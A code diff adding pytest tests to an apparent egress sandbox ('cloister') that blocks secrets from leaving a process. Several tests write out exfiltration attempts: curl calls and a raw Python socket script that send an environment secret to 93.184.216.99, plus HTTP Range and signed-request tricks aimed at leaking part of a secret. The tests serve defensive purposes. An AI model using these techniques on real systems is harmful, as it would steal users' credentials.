@@ -179,6 +179,47 @@ def test_anywhere_else_is_refused(online, words, why):
     assert not online.lab.seen(fake) and not online.lab.seen(real)
 
 
+@pytest.mark.parametrize("words", [
+    '-H "X: $KEY"', '"http://93.184.216.99/?$KEY"', '-d "$KEY"', '-k --http2 -H "X: $KEY" https://93.184.216.99/',
+    '-H "Transfer-Encoding: chunked" -d "{\\"a\\":\\"$KEY\\"}"'])
+def test_so_is_what_no_rule_allows(online, words):
+    """The most usual way: to somebody's address.  Nothing leaves, but it is seen for what it is."""
+    give(online, canary())
+    url = "" if "://" in words else "http://93.184.216.99/"
+    done, fake, said = sh(online, fetch(words, url))
+    assert json.loads(said)["error"] == "refused by cloister"
+    event = online.refusal(type="http")
+    assert event["why"] == "exfiltration" and event["status"] == 403
+    assert "'93.184.216.99' is not among its hosts" in event["note"]
+    assert "exfiltration" in online.operator.cloister("events", online.cell).ok() and "placeholder" in done.err
+
+
+def test_what_is_refused_on_its_way_home_is_not(online):
+    """The secret may go there, though this request may not."""
+    give(online, canary(), "--in", "header:authorization", "--in", "body")
+    rules = "  - deny: up.example.test\n    paths: [/echo]\n" + OPEN
+    sh(online, fetch('-H "Authorization: Bearer $KEY" -d "$KEY"', f"{UP}/echo"), rules=rules)
+    assert online.refusal(type="http")["why"] == "rule"
+
+
+def test_a_refused_body_that_never_ends(online):
+    """The refusal is told at once all the same, and what comes later, too."""
+    give(online, canary())
+    script = """import os, socket, time
+s = socket.create_connection(("93.184.216.99", 80))
+s.sendall(b"POST / HTTP/1.1\\r\\nHost: 93.184.216.99\\r\\nContent-Length: 100000\\r\\n\\r\\nx")
+print(s.recv(12).decode(), flush=True)
+while not os.path.exists("go"): time.sleep(0.05)
+s.sendall(os.environ["KEY"].encode() + b" ")
+while s.recv(65536): pass
+"""
+    online.start(OPEN, "/usr/bin/python3", "-c", script, options=("-s", "KEY"))
+    wait_until(lambda: online.events(type="http", why="no-rule"), "it is recorded")
+    online.inside("touch", "go").ok()
+    wait_until(lambda: online.events(type="http", why="exfiltration"), "what was in it is recorded")
+    online.operator.cloister("kill", online.cell).ok()
+
+
 def test_what_people_are_told_of_it(online):
     give(online, canary())
     sh(online, fetch('-H "X-Other: $KEY"', f"{UP}/echo"))
@@ -319,6 +360,57 @@ def test_nor_has_an_answer_to_another_request(online):
     where = online.lab.raw(f"HTTP/1.1 200 OK\r\ncontent-length: {len(real)}\r\n\r\n{real}".encode())
     done, fake, said = sh(online, fetch("--http1.1", f"'{UP}{where}'"))
     assert said == fake and real not in done.out
+
+
+def test_nor_has_a_part_of_one(online):
+    """Half of a value is nothing that could be found, so who asks for a part gets all of it."""
+    real = canary()
+    name = f"{canary()}.txt"
+    online.lab.file(name, real)
+    online.operator.cloister("secret", "add", "KEY", "--host", "www.example.test", "--in", "body", input=real).ok()
+    part = ["-H 'Range: bytes=0-6'", "-H 'If-Range: x'", f"https://www.example.test/{name}"]
+    for version in ("--http1.1", "--http2"):
+        done, fake, said = sh(online, fetch(version, "-r 7-13", part[-1]) + "; echo; " + fetch(version, *part))
+        assert said == f"{fake}\n{fake}" and real not in done.out
+    # Where no secret goes, parts are what they are.
+    online.operator.cloister("secret", "remove", "KEY").ok()
+    give(online, real)
+    done, _, said = sh(online, fetch("-r 7-13 -w ' %{http_code}'", part[-1]))
+    assert said == f"{real[7:14]} 206"
+
+
+@pytest.mark.parametrize("name", ["Range", "Request-Range", "X-Ms-Range"])
+def test_other_names_of_a_range(online, name):
+    give(online, canary())
+    sh(online, fetch(f"-H '{name}: bytes=0-6'", f"{UP}/echo?of={name}"))
+    seen = json.loads(online.lab.seen(f"/echo?of={name}")[-1])
+    assert name.lower() not in dict(seen["fields"])
+
+
+def test_a_part_that_nobody_asked_for(online):
+    real = canary()
+    give(online, real)
+    for fields in (f"content-range: bytes 0-6/{len(real)}", "content-type: multipart/byteranges; boundary=x"):
+        where = online.lab.raw(f"HTTP/1.1 206 OK\r\n{fields}\r\ncontent-length: 7\r\n\r\n{real[:7]}".encode())
+        done, _, said = sh(online, fetch("--http1.1", f"'{UP}{where}'"))
+        assert "a part that was not asked for" in json.loads(said)["reason"]
+    # Of a list, as databases have them, it is no part of a value.
+    where = online.lab.raw(b"HTTP/1.1 206 OK\r\ncontent-range: 0-6/9\r\ncontent-length: 2\r\n\r\n[]")
+    assert sh(online, fetch("--http1.1", f"'{UP}{where}'"))[2] == "[]"
+
+
+def test_a_part_by_a_request_that_is_signed(online):
+    """Nothing can be left out of that; alone, a key that signs is told to nobody."""
+    online.operator.cloister("secret", "add", "AWS", "--like", "aws", "--host", "up.example.test",
+                             input=f"AKIA{'B' * 16}\n{canary()[:40]}\n").ok()
+    give(online, canary())
+    ask = fetch("--http1.1 --aws-sigv4 aws:amz:eu-west-1:execute-api -H 'Range: bytes=0-6'",
+                '-u "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY"', f"{UP}/echo")
+    done = online.sh(OPEN, ask, options=("-s", "AWS"))
+    assert ["range", "bytes=0-6"] in json.loads(done.out)["fields"]
+    done = online.sh(OPEN, ask, options=("-s", "AWS", "-s", "KEY"))
+    assert "asks for a part" in json.loads(done.out)["reason"]
+    assert online.refusal()["why"] == "credential"
 
 
 def test_two_codings(online):
